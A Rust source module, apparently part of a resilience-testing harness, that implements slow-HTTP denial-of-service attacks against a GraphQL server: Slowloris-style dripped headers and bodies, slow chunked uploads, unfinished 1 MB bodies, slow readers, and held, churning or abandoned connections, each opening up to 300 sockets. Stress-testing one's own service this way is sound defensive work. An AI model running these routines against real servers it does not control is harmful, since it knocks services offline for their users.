//! Attacks by slowness: heads, bodies and readers that take their time, and connections that are only held.

use std::{
    io::{Read, Write},
    net::{Shutdown, TcpStream},
    time::Duration,
};

use crate::{
    bank::{Answer, Attack, Field},
    exchange::{self, connect},
};

const CLASS: &str = "sockets";
const HELD: usize = 300;
const SLOW: Duration = Duration::from_millis(200);

/// Many connections of one attacker, on each of which `begin` is written, and then a byte at a time.
fn dripping(name: &'static str, begin: &'static str, byte: &'static [u8]) -> Attack {
    Attack::new(CLASS, name, 1, move |field| {
        let begin = begin.replace("{host}", &field.site.address.to_string());
        let mut held = connections(field, HELD);
        held.retain_mut(|stream| stream.write_all(begin.as_bytes()).is_ok());
        field.hold(SLOW, || {
            held.retain_mut(|stream| stream.write_all(byte).is_ok());
            !held.is_empty()
        })
    })
}

fn connections(field: &Field<'_>, count: usize) -> Vec<TcpStream> {
    (0..count).filter_map(|_| connect(field)).collect()
}

/// Bodies of 1 MB that lack their last byte.
fn unfinished(field: &Field<'_>) -> Answer {
    let begin = format!(
        "POST /graphql HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n",
        field.site.address
    );
    let blanks = vec![b' '; 999_999];
    let mut held = connections(field, HELD);
    held.retain_mut(|stream| {
        stream.write_all(begin.as_bytes()).and_then(|()| stream.write_all(&blanks)).is_ok()
    });
    field.hold(SLOW, || true)
}

/// Large responses of which a byte is read now and then.
fn slow_readers(field: &Field<'_>) -> Answer {
    let request =
        exchange::graphql(field.site, "{ books(limit: 10000) { id title author { name } } }", "{}", "close");
    let mut held = connections(field, 50);
    held.retain_mut(|stream| stream.write_all(&request).is_ok());
    let mut byte = [0];
    field.hold(SLOW, || {
        held.retain_mut(|stream| matches!(stream.read(&mut byte), Ok(1)));
        true
    })
}

/// Requests whose senders are gone before the response.
fn gone(field: &Field<'_>) -> Answer {
    let request = exchange::graphql(
        field.site,
        "{ books(limit: 10000, sort: { title: desc }) { title author { name } } }",
        "{}",
        "close",
    );
    let Some(mut stream) = connect(field) else { return Answer::None };
    let _ = stream.write_all(&request);
    let _ = stream.shutdown(Shutdown::Both);
    Answer::None
}

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        dripping("slow heads", "GET /graphql HTTP/1.1\r\nHost: {host}\r\nX-a: ", b"b"),
        dripping(
            "slow heads, a header at a time",
            "GET /graphql HTTP/1.1\r\nHost: {host}\r\n",
            b"X-a: b\r\n",
        ),
        dripping(
            "slow bodies",
            "POST /graphql HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{",
            b" ",
        ),
        dripping(
            "slow chunks",
            "POST /graphql HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
            b"1\r\n \r\n",
        ),
        Attack::new(CLASS, "bodies of 1 MB without their last byte", 1, unfinished),
        Attack::new(CLASS, "readers of large responses that hardly read", 1, slow_readers),
        Attack::new(CLASS, "connections that say nothing", 1, |field| {
            let _held = connections(field, HELD);
            field.hold(SLOW, || true)
        }),
        Attack::new(CLASS, "connections that come and go", 4, |field| {
            drop(connections(field, 50));
            Answer::None
        }),
        Attack::new(CLASS, "clients that are gone before the response", 8, gone),
    ]
}
